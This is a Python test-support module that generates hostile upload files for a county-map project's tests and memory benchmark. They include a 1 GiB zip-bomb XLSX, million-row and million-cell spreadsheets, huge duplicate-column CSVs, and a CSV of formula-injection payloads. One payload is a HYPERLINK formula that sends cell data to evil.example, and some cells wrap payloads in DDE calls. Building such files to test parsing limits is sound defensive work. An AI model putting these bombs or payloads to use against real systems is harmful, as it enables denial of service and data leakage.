"""Hostile projects files, made on demand: what an attacker would try, and the largest files the caps let in.

Used by the tests (``tests/test_hostile_files.py``, the browser test of a
hostile upload) and by ``python -m countymap bench-hostile``, which measures
the peak memory and time of reading each. The XLSX files are written as raw
zip members, streamed, so that even the 1 GB bomb is made without holding it
in memory; they are valid spreadsheets (Excel and openpyxl open the small ones).
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

from countymap.config import REPO_ROOT
from countymap.schema import PROJECTS

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        "</Types>"
    ),
    "_rels/.rels": (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PACKAGE_REL}">'
        f'<Relationship Id="rId1" Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    ),
    "xl/workbook.xml": (
        f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{_MAIN}" xmlns:r="{_REL}">'
        '<sheets><sheet name="projects" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PACKAGE_REL}">'
        f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    ),
}
_CHUNK_CHARS = 1 << 20  # rows are written a megabyte at a time


def _column(index: int) -> str:
    """1-based column number -> letters (1 -> A, 28 -> AB)."""
    letters = ""
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def sheet_row(number: int, cells: list[str]) -> str:
    """One ``<row>`` of inline-string cells."""
    inner = "".join(
        f'<c r="{_column(i)}{number}" t="inlineStr"><is><t>{_escape(text)}</t></is></c>'
        for i, text in enumerate(cells, start=1)
        if text
    )
    return f'<row r="{number}">{inner}</row>'


def _shared_row(number: int, width: int) -> str:
    """A row whose cells are shared strings 0..width-1 (cell references left out, as the format allows)."""
    return f'<row r="{number}">' + "".join(f'<c t="s"><v>{i}</v></c>' for i in range(width)) + "</row>"


def write_xlsx(path: Path, rows: Iterator[str], strings: list[str] | None = None, level: int = 9) -> Path:
    """Write an XLSX file whose only sheet holds the ``<row>`` strings of ``rows`` (streamed)."""
    parts = dict(_PARTS)
    if strings is not None:
        items = "".join(f"<si><t>{_escape(text)}</t></si>" for text in strings)
        parts["xl/sharedStrings.xml"] = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{_MAIN}">{items}</sst>'
        parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
            "</Relationships>",
            f'<Relationship Id="rId2" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{_MAIN}"><sheetData>'.encode())
            batch: list[str] = []
            size = 0
            for row in rows:
                batch.append(row)
                size += len(row)
                if size >= _CHUNK_CHARS:
                    sheet.write("".join(batch).encode("utf-8"))
                    batch, size = [], 0
            sheet.write(("".join(batch) + "</sheetData></worksheet>").encode("utf-8"))
    return path


def embedded_rows() -> list[list[str]]:
    """The embedded ``projects.csv``: header and rows, ``part_of`` blanked (a sample holds few programmes)."""
    text = (REPO_ROOT / PROJECTS.path).read_text(encoding="utf-8")
    header, *rows = csv.reader(io.StringIO(text))
    if "part_of" in header:
        column = header.index("part_of")
        for row in rows:
            row[column] = ""
    return [header, *rows]


def million_row_xlsx(path: Path, rows: int = 1_000_000) -> Path:
    """A 1,000,000-row XLSX: the header, then one real project row over and over (shared strings)."""
    header, first = embedded_rows()[:2]
    body = (_shared_row(n, len(first)) for n in range(2, rows + 2))
    return write_xlsx(path, _chain(sheet_row(1, header), body), strings=first)


def _chain(first: str, rest: Iterator[str]) -> Iterator[str]:
    yield first
    yield from rest


def zip_bomb_xlsx(path: Path, xml_bytes: int = 1 << 30) -> Path:
    """A zip bomb: about 1 MB packed, ``xml_bytes`` (1 GiB) of sheet XML, one cell of "A"s."""
    header = embedded_rows()[0]
    chunk = "A" * (1 << 20)
    cell = _chain('<row r="2"><c t="inlineStr"><is><t>', (chunk for _ in range(max(1, xml_bytes >> 20))))
    return write_xlsx(path, _chain(sheet_row(1, header), _chain("", _then(cell, "</t></is></c></row>"))))


def _then(rows: Iterator[str], last: str) -> Iterator[str]:
    yield from rows
    yield last


def wide_row_xlsx(path: Path, cells: int = 1_800_000) -> Path:
    """A header and one row of ``cells`` cells, all in column A, within the byte and ratio caps: the cell cap stops it inside the row."""
    header = embedded_rows()[0]
    row = _then(_chain('<row r="2">', (f'<c r="A2"><v>{i}</v></c>' for i in range(cells))), "</row>")
    return write_xlsx(path, _chain(sheet_row(1, header), row))


def duplicate_columns_csv(path: Path, columns: int) -> Path:
    """A header of ``columns`` columns all named ``id``, and one row."""
    path.write_text(",".join(["id"] * columns) + "\n" + ",".join(["x"] * columns) + "\n", encoding="utf-8")
    return path


def largest_csv(path: Path, size_bytes: int = 10 * 1024 * 1024) -> Path:
    """The embedded rows repeated up to ``size_bytes`` (the default upload limit): ids repeat, so most rows fail."""
    header, *rows = embedded_rows()
    lines, total, index = [], 0, 0
    while True:
        out = io.StringIO()
        csv.writer(out, lineterminator="\n").writerow(header if index == 0 else rows[(index - 1) % len(rows)])
        line = out.getvalue()
        total += len(line.encode("utf-8"))
        if total > size_bytes:
            break
        lines.append(line)
        index += 1
    path.write_text("".join(lines), encoding="utf-8")
    return path


def largest_xlsx(path: Path, rows: int = 50_000) -> Path:
    """The embedded rows repeated ``rows`` times (the row cap) as inline strings: the heaviest XLSX the caps let in."""
    header, *body = embedded_rows()
    lines = (sheet_row(n, body[(n - 2) % len(body)]) for n in range(2, rows + 1))
    return write_xlsx(path, _chain(sheet_row(1, header), lines))


def formula_csv(path: Path) -> Path:
    """A valid projects file whose text cells start like spreadsheet formulas (OWASP's examples)."""
    header, *rows = embedded_rows()
    payloads = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
    name_zh, name_en = header.index("name_zh"), header.index("name_en")
    chosen = rows[: len(payloads)]
    for row, payload in zip(chosen, payloads, strict=True):
        row[name_zh], row[name_en] = payload, f"=DDE({payload!r})"
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows([header, *chosen])  # CRLF: a cell's CR gets quoted
    path.write_bytes(out.getvalue().encode("utf-8"))
    return path


# name -> (what it is, how it is made); the bench reads every one, in this order.
HOSTILE: dict[str, tuple[str, Callable[[Path], Path]]] = {
    "million-rows.xlsx": ("1,000,000-row XLSX", million_row_xlsx),
    "zip-bomb.xlsx": ("1 GiB of sheet XML in about 1 MB", zip_bomb_xlsx),
    "columns-100k.csv": ("header of 100,000 duplicate columns", lambda p: duplicate_columns_csv(p, 100_000)),
    "columns-300k.csv": ("header of 300,000 duplicate columns", lambda p: duplicate_columns_csv(p, 300_000)),
    "wide-row.xlsx": ("one row of 1,800,000 cells, within the byte and ratio caps", wide_row_xlsx),
    "largest.csv": ("10 MB CSV of real rows, ids repeated (the upload limit)", largest_csv),
    "largest.xlsx": ("50,000 real rows, ids repeated (the row cap)", largest_xlsx),
}


def make(name: str, folder: Path) -> Path:
    """Make hostile file ``name`` (a key of :data:`HOSTILE`) in ``folder``, once; return its path."""
    path = folder / name
    if not path.exists():
        HOSTILE[name][1](path)
    return path
